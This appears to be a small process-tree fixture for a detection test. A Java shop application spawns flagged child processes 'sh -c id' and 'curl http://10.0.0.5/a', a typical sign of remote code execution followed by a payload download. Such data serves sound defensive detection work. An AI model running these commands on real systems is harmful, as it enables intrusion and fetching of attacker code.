os linux
101 1 root systemd /usr/lib/systemd/systemd | /usr/lib/systemd/systemd
102 101 app - /usr/lib/jvm/java-17/bin/java | java -jar /opt/shop/shop.jar
+ 103 102 app sh /usr/bin/dash | sh -c id
+ 104 102 app - /usr/bin/curl | curl http://10.0.0.5/a
